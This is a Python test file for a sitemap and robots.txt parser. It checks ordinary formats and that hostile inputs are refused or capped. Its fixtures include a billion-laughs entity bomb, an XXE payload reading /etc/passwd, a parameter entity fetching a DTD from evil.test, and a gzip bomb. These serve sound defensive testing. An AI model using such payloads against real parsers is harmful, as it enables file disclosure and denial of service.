"""Reading sitemaps and robots.txt: the usual formats, and hostile files bounded."""

from __future__ import annotations

import gzip
import time

import pytest

from curator.replacements.sitemaps import (
    MAX_LOCATION_CHARS,
    SitemapKind,
    parse_sitemap,
    sitemaps_in_robots,
)

NS = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'
URLSET = (
    f'<?xml version="1.0" encoding="UTF-8"?><urlset {NS}>'
    "<url><loc>\n  https://charity.test/help/scams?a=1&amp;b=2 </loc><lastmod>2026-01-01</lastmod>"
    "</url><url><loc>https://charity.test/about</loc></url></urlset>"
).encode()
INDEX = (
    f"<sitemapindex {NS}><sitemap><loc>https://charity.test/page-sitemap.xml</loc></sitemap>"
    "<sitemap><loc>https://charity.test/post-sitemap.xml</loc></sitemap></sitemapindex>"
).encode()
BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]><urlset><url><loc>https://charity.test/&lol9;</loc></url></urlset>"
)
EXTERNAL_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE u [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b"<urlset><url><loc>&xxe;</loc></url></urlset>"
)
PARAMETER_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE u [<!ENTITY % remote SYSTEM "http://evil.test/x.dtd">'
    b"%remote;]><urlset><url><loc>https://charity.test/a</loc></url></urlset>"
)


TEXT = b"\xef\xbb\xbfhttps://charity.test/a\r\n\r\nhttps://charity.test/b\n"
RSS = (
    b"<rss><channel><link>https://charity.test/</link>"
    b"<item><link>https://charity.test/news/1</link></item></channel></rss>"
)
ATOM = (
    b'<feed xmlns="http://www.w3.org/2005/Atom"><entry>'
    b'<link rel="alternate" href="https://charity.test/e"/>'
    b'<link rel="edit" href="https://charity.test/edit"/></entry></feed>'
)
MIXED = (
    "<urlset><url><loc>ftp://charity.test/x</loc></url><url><loc>/relative</loc></url>"
    f"<url><loc>https://charity.test/{'a' * MAX_LOCATION_CHARS}</loc></url>"
    "<url><loc>https://charity.test/ok</loc></url></urlset>"
).encode()
SCAMS = ["https://charity.test/help/scams?a=1&b=2", "https://charity.test/about"]
CHILDREN = ["https://charity.test/page-sitemap.xml", "https://charity.test/post-sitemap.xml"]


@pytest.mark.parametrize(
    ("data", "kind", "locations"),
    [
        (URLSET, "urlset", SCAMS),
        (gzip.compress(URLSET), "urlset", SCAMS),
        (INDEX, "index", CHILDREN),
        (TEXT, "text", ["https://charity.test/a", "https://charity.test/b"]),
        (RSS, "feed", ["https://charity.test/news/1"]),
        (ATOM, "feed", ["https://charity.test/e"]),
        (MIXED, "urlset", ["https://charity.test/ok"]),
        (b"<!doctype html><html><body>Sitemap</body></html>", "none", []),
        (b"<html><body><a href='https://charity.test/a'>a</a></body></html>", "none", []),
        (b"User-agent: *\nDisallow: /\n", "none", []),
        (b"", "none", []),
    ],
    ids=[
        "urlset", "gzip", "index", "text", "rss", "atom", "only-http-urls-kept",
        "html-doctype", "html", "robots-like-text", "empty",
    ],
)  # fmt: skip
def test_formats(data: bytes, kind: str, locations: list[str]) -> None:
    found = parse_sitemap(data, max_urls=1000, max_bytes=1024 * 1024)
    assert found.kind is SitemapKind(kind)
    assert list(found.locations) == locations


@pytest.mark.parametrize(
    "data",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "parameter-entity"],
)
def test_entities_are_refused_whole(data: bytes) -> None:
    started = time.monotonic()
    found = parse_sitemap(data, max_urls=1000, max_bytes=1024 * 1024)
    assert found.kind is SitemapKind.NONE
    assert found.locations == ()
    assert found.problem is not None and "entities" in found.problem
    assert time.monotonic() - started < 1


def test_a_gzip_bomb_inflates_no_further_than_the_cap() -> None:
    bomb = gzip.compress(b"<urlset>" + b" " * 200_000_000, compresslevel=9)
    started = time.monotonic()
    found = parse_sitemap(bomb, max_urls=1000, max_bytes=1024 * 1024)
    assert found.locations == ()
    assert found.truncated
    assert time.monotonic() - started < 2


def test_addresses_are_capped() -> None:
    many = (
        "<urlset>"
        + "".join(f"<url><loc>https://charity.test/{i}</loc></url>" for i in range(500))
        + "</urlset>"
    ).encode()
    found = parse_sitemap(many, max_urls=100, max_bytes=1024 * 1024)
    assert len(found.locations) == 100
    assert found.truncated


def test_a_cut_off_file_keeps_what_came_before_the_fault() -> None:
    found = parse_sitemap(URLSET[: URLSET.index(b"</url>") + 20], max_urls=10, max_bytes=10_000)
    assert found.kind is SitemapKind.URLSET
    assert found.locations == ("https://charity.test/help/scams?a=1&b=2",)
    assert found.truncated and found.problem


def test_robots_declares_sitemaps() -> None:
    robots = (
        "User-agent: *\nDisallow: /admin/ # private\n"
        "Sitemap: https://charity.test/sitemap_index.xml\n"
        "sitemap:/news-sitemap.xml  # relative, tolerated\n"
        "SITEMAP: https://charity.test/sitemap_index.xml\n"
        "Sitemap: ftp://charity.test/x.xml\n"
        "Disallow: /sitemap: not a line of its own\n"
    )
    assert sitemaps_in_robots(robots, "https://charity.test/robots.txt") == [
        "https://charity.test/sitemap_index.xml",
        "https://charity.test/news-sitemap.xml",
    ]


def test_robots_sitemaps_are_capped() -> None:
    robots = "\n".join(f"Sitemap: https://charity.test/s{i}.xml" for i in range(100))
    assert len(sitemaps_in_robots(robots, "https://charity.test/robots.txt", limit=5)) == 5
